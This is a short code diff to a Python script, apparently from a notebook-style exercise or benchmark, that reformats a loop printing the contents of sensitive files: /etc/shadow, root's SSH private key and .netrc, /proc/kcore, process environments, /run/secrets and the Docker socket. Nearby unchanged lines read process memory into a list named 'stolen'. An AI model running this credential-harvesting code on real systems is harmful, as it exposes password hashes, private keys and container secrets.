@@ -37,9 +37,20 @@ for process in glob.glob("/proc/[0-9]*"):
                 stolen.append((process, "mem", memory.read(100)))
         except (OSError, ValueError):
             pass
-for path in ("/etc/shadow", "/etc/passwd", "/root/.bash_history", "/root/.ssh/id_rsa", "/root/.netrc", "/proc/kcore", "/proc/1/environ", "/run/secrets", "/var/run/docker.sock"):
+for path in (
+    "/etc/shadow",
+    "/etc/passwd",
+    "/root/.bash_history",
+    "/root/.ssh/id_rsa",
+    "/root/.netrc",
+    "/proc/kcore",
+    "/proc/1/environ",
+    "/run/secrets",
+    "/var/run/docker.sock",
+):
     print(path, read(path)[:200])
 print("stolen:", stolen)
+
 
 # %% answer="c4"
 class C4:
